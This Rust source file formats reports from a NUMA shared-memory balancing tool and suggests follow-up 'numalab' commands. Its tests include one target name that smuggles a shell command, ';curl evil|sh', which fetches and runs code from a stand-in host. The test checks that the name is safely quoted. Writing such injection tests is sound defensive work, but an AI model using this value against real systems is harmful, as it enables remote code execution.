//! What NUMA balancing did to shared memory, as text and as the document `numalab.balance/1`.

use model::{
    BalanceEnd, BalanceReport, BalanceSample, BalancedSegment, ByteSize, counted, node_words,
    shell_line,
};

use crate::form::advice::Advice;
use crate::form::node_table::{memory_label, node_rows, node_table};
use crate::form::plain::plain;
use crate::form::style::{Style, TextOptions};
use crate::run::figures::whole;

/// More hint faults than this on other nodes, once pages have settled, are worth a word.
const REMOTE_SHARE: f64 = 0.25;
/// The seconds at the begin and at the end whose faults are compared.
const WINDOW_S: f64 = 10.0;

/// What `--keep` means.
const KEPT: &str = "the policy was kept: the kernel goes on moving pages, at any rate, until \
                    `numalab undo`";

/// Formats a balancing.
pub fn balance_text(report: &BalanceReport, options: &TextOptions) -> String {
    let title = format!(
        "Shared memory of {}, balanced by the kernel",
        plain(&report.target)
    );
    let mut text = options.heading(&title);
    let mut say = |sentence: &str, style| text.push_str(&options.paragraph("", sentence, style));
    say(&outcome(report), Style::Usual);
    if report.is_kept {
        say(KEPT, Style::Care);
    }
    if let Some(advice) = next(report) {
        text.push_str(&advice.text("", Style::Care, options));
    }
    text.push('\n');
    text.push_str(&segments(report, options));
    let mut say = |sentence: &str| text.push_str(&options.paragraph("", sentence, Style::Usual));
    for segment in &report.segments {
        say(&policy(segment));
    }
    if let Some(sentence) = seen(report) {
        say(&sentence);
    }
    for note in &report.notes {
        say(&plain(note));
    }
    text
}

/// Says in one sentence what was moved, and how it ended.
pub fn outcome(report: &BalanceReport) -> String {
    let Some(seconds) = report.seconds else {
        let (longest, most) = (report.seconds_max, ByteSize(report.bytes_per_s_max));
        return format!(
            "the kernel would move pages among {} to the CPUs that use them, at most {most} \
             per second, for at most {longest:.0} s; nothing was changed",
            node_words(&report.nodes)
        );
    };
    let elsewhere = report.segments.iter().map(|it| it.bytes_elsewhere);
    let elsewhere: Option<u64> = elsewhere.sum();
    let moved = match elsewhere {
        Some(bytes) => format!("{} lie on another node than before", ByteSize(bytes)),
        None => "where the pages are now is unknown".to_owned(),
    };
    let why = match report.end {
        BalanceEnd::Planned | BalanceEnd::TimeOver => "the time was over",
        BalanceEnd::Settled => "pages stay where they are by now",
        BalanceEnd::PingPong => "pages move back and forth",
        BalanceEnd::NoFaults => "the kernel has seen no use of any page",
        BalanceEnd::Interrupted => "interrupted",
        BalanceEnd::TargetEnded => "all processes of the target ended",
    };
    format!("{moved}; ended after {seconds:.0} s: {why}")
}

/// What to do next.
fn next(report: &BalanceReport) -> Option<Advice> {
    let mover = |to| shell_line!("numalab move {} --shared --to {}", report.target, to);
    let spread = |why: String| Some(Advice::paste(why, mover("interleave")));
    match report.end {
        BalanceEnd::PingPong => spread(
            "several nodes use the same pages, which cannot be near to all of them: `numalab undo` \
             takes them back, and this spreads them:"
                .to_owned(),
        ),
        BalanceEnd::TimeOver if still_moved(report) => spread(
            "pages were still moving: run it again with a longer --for, or spread them:".to_owned(),
        ),
        BalanceEnd::TimeOver => Some(Advice::words(format!(
            "the time was too short to tell whether pages have settled, which takes {:.0} s \
             without a change: run it again with a --for well above that",
            report.settled_after_s
        ))),
        _ if !report.segments.is_empty() && report.segments.iter().all(is_of_one_node) => {
            let why = "only the CPUs of one node may use it; this moves all of it there at once:";
            Some(Advice::paste(why, mover("near-cpus")))
        }
        BalanceEnd::Settled => {
            let remote = 1.0 - BalanceReport::local_share(&last_samples(report))?;
            let why = format!(
                "{:.0} % of the hint faults are still on other nodes: several nodes use the same \
                 pages, and this would give each the same share:",
                remote * 100.0
            );
            (remote > REMOTE_SHARE).then(|| spread(why)).flatten()
        }
        _ => None,
    }
}

/// Whether pages moved in the last seconds.
fn still_moved(report: &BalanceReport) -> bool {
    let last_s = report.samples.last().map_or(0.0, |it| it.at_s);
    let mut last = report.samples.iter().rev();
    last.any(|it| it.at_s > last_s - WINDOW_S && it.pages_changed > 0)
}

/// Whether the processes that use a segment may run on the CPUs of one node only.
fn is_of_one_node(segment: &BalancedSegment) -> bool {
    segment.near_nodes.len() == 1
}

fn segments(report: &BalanceReport, options: &TextOptions) -> String {
    let mut rows = Vec::new();
    for segment in &report.segments {
        let label = memory_label(&segment.name, &segment.kind, segment.page_bytes);
        let (before, after) = (&segment.bytes_by_node_before, &segment.bytes_by_node_after);
        rows.extend(node_rows(label, before, None, after.as_ref()));
    }
    node_table(&rows, options)
}

fn policy(segment: &BalancedSegment) -> String {
    let BalancedSegment {
        policy_before,
        policy_meanwhile,
        ..
    } = segment;
    let name = plain(&segment.name);
    match &segment.policy_after {
        None => format!("{name}: its policy is {policy_before}, and would be {policy_meanwhile}"),
        Some(after) if after == policy_before => {
            format!("{name}: its policy was {policy_meanwhile} meanwhile, and is {after} again")
        }
        Some(after) => format!("{name}: its policy is {after} (was {policy_before})"),
    }
}

/// The samples of the last seconds, without those of the first.
fn last_samples(report: &BalanceReport) -> Vec<BalanceSample> {
    let last_s = report.samples.last().map_or(0.0, |it| it.at_s);
    let is_last = |it: &&BalanceSample| it.at_s > WINDOW_S.max(last_s - WINDOW_S);
    report.samples.iter().filter(is_last).copied().collect()
}

/// What the kernel counted, at the begin and at the end.
fn seen(report: &BalanceReport) -> Option<String> {
    report.samples.last()?;
    let sum = |of: fn(&BalanceSample) -> u64| {
        let figures = report.samples.iter().map(of);
        figures.fold(0, u64::saturating_add)
    };
    let migrated = ByteSize(sum(|it| it.bytes_migrated));
    let mut text = format!(
        "on the whole machine, the kernel moved {migrated} and counted {}",
        counted(whole(sum(|it| it.hint_faults)), "hint fault")
    );
    let first = report.samples.partition_point(|it| it.at_s <= WINDOW_S);
    let percent = |samples| BalanceReport::local_share(samples).map(|share| share * 100.0);
    match (
        percent(&report.samples[..first]),
        percent(&last_samples(report)),
    ) {
        (Some(first), Some(last)) => text.push_str(&format!(
            ", {first:.0} % of them on the node of the CPU in the first {WINDOW_S:.0} s, {last:.0} \
             % in the last"
        )),
        (Some(share), None) | (None, Some(share)) => {
            text.push_str(&format!(", {share:.0} % of them on the node of the CPU"));
        }
        (None, None) => {}
    }
    let stopped: f64 = report.samples.iter().map(|it| it.stopped_s).sum();
    if stopped > 0.0 {
        text.push_str(&format!(
            "; it was stopped for {stopped:.1} s, having moved enough"
        ));
    }
    Some(text)
}

#[cfg(test)]
mod tests {
    use model::{BytesByNode, NodeId};

    use super::*;

    fn bytes(list: &[(u32, u64)]) -> BytesByNode {
        list.iter()
            .map(|(node, mib)| (NodeId(*node), mib << 20))
            .collect()
    }

    fn plan() -> BalanceReport {
        let segment = BalancedSegment {
            name: "/dev/zero".to_owned(),
            kind: "anonymous".to_owned(),
            page_bytes: 4096,
            near_nodes: "0-1".parse().unwrap(),
            bytes_by_node_before: bytes(&[(0, 100)]),
            policy_before: "default".to_owned(),
            policy_meanwhile: "bind=balancing:0-1".to_owned(),
            ..BalancedSegment::default()
        };
        BalanceReport {
            target: "postgres:/data".to_owned(),
            nodes: "0-1".parse().unwrap(),
            seconds_max: 60.0,
            settled_after_s: 60.0,
            bytes_per_s_max: 256 << 20,
            segments: vec![segment],
            ..BalanceReport::default()
        }
    }

    fn outcome(end: BalanceEnd) -> BalanceReport {
        let mut report = plan();
        let sample = |at_s, hint_faults_local| BalanceSample {
            at_s,
            hint_faults: 4000,
            hint_faults_local,
            bytes_migrated: 30 << 20,
            ..BalanceSample::default()
        };
        report.end = end;
        report.seconds = Some(21.0);
        report.samples = vec![sample(5.0, 1000), sample(21.0, 3000)];
        let segment = &mut report.segments[0];
        segment.bytes_by_node_after = Some(bytes(&[(0, 40), (1, 60)]));
        segment.bytes_elsewhere = Some(60 << 20);
        segment.policy_after = Some("default".to_owned());
        report
    }

    #[track_caller]
    fn check(report: &BalanceReport, parts: &[&str]) {
        let options = TextOptions {
            width: 400,
            color: false,
        };
        let text = balance_text(report, &options);
        for part in parts {
            assert!(text.contains(part), "{part}: {text}");
        }
    }

    #[test]
    fn a_plan_says_what_would_be() {
        let parts = [
            "among nodes 0-1 to the CPUs that use them, at most 256 MiB per second, for at most \
             60 s; nothing was changed",
            "100.0 MiB",
            "its policy is default, and would be bind=balancing:0-1",
        ];
        check(&plan(), &parts);
    }

    #[test]
    fn an_outcome_says_how_it_ended_and_what_the_kernel_counted() {
        let parts = [
            "60 MiB lie on another node than before; ended after 21 s: pages stay where they are",
            "was bind=balancing:0-1 meanwhile, and is default again",
            "moved 60 MiB and counted 8,000 hint faults, 25 % of them on the node of the CPU in \
             the first 10 s, 75 % in the last",
        ];
        check(&outcome(BalanceEnd::Settled), &parts);
        let advice = ["this spreads them:\n  numalab move postgres:/data --shared --to interleave"];
        check(&outcome(BalanceEnd::PingPong), &advice);
    }

    #[test]
    fn when_the_time_is_over_only_pages_that_were_seen_to_move_are_said_to_move() {
        let mut report = outcome(BalanceEnd::TimeOver);
        let short = [
            "too short to tell whether pages have settled",
            "which takes 60 s without a change",
        ];
        check(&report, &short);
        report.samples[0].pages_changed = 7;
        check(&report, &short);
        report.samples[1].pages_changed = 7;
        check(&report, &["pages were still moving: run it again"]);
    }

    #[test]
    fn a_policy_that_is_kept_is_said_to_be() {
        let mut report = outcome(BalanceEnd::Settled);
        report.is_kept = true;
        check(
            &report,
            &["the kernel goes on moving pages, at any rate, until `numalab undo`"],
        );
    }

    #[test]
    fn what_one_node_uses_is_better_moved() {
        let mut plan = plan();
        plan.segments[0].near_nodes = "1".parse().unwrap();
        check(
            &plan,
            &["it there at once:\n  numalab move postgres:/data --shared --to near-cpus"],
        );
    }

    #[test]
    fn a_hostile_name_is_one_word_of_the_command_on_one_line() {
        let name = format!("postgres:/tmp/{}'/x;curl evil|sh", "a".repeat(100));
        let quoted = format!(
            "\n  numalab move 'postgres:/tmp/{}'\"'\"'/x;curl evil|sh' --shared --to ",
            "a".repeat(100)
        );
        let mut near = plan();
        near.segments[0].near_nodes = "1".parse().unwrap();
        let mut moving = outcome(BalanceEnd::TimeOver);
        moving.samples[0].pages_changed = 7;
        moving.samples[1].pages_changed = 7;
        let mut remote = outcome(BalanceEnd::Settled);
        remote.samples[1].hint_faults_local = 1001;
        for mut report in [near, moving, remote, outcome(BalanceEnd::PingPong)] {
            report.target.clone_from(&name);
            let text = balance_text(&report, &TextOptions::default());
            assert!(text.contains(&quoted), "{text}");
        }
    }

    #[test]
    fn what_is_unknown_is_not_none() {
        let mut report = outcome(BalanceEnd::TargetEnded);
        report.segments[0].bytes_elsewhere = None;
        report.segments[0].bytes_by_node_after = None;
        check(
            &report,
            &["where the pages are now is unknown; ended after 21 s"],
        );
    }
}
